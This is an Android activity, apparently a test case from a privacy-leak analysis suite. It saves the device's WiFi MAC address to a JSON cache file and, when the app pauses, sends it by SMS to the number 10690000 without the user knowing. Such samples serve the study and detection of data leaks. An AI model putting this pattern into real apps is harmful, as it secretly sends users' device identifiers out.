package cn.privlens.suite.json_cache_file;

import android.app.Activity;
import android.net.wifi.WifiManager;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.io.IOException;
import org.json.JSONException;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        WifiManager wifi = (WifiManager) getSystemService(WIFI_SERVICE);
        try {
            Profile.save(this, wifi.getConnectionInfo().getMacAddress());
        } catch (IOException | JSONException e) {
            finish();
        }
    }

    @Override
    protected void onPause() {
        super.onPause();
        try {
            String text = Profile.load(this).optString("mac");
            SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
        } catch (IOException | JSONException e) {
            finish();
        }
    }
}
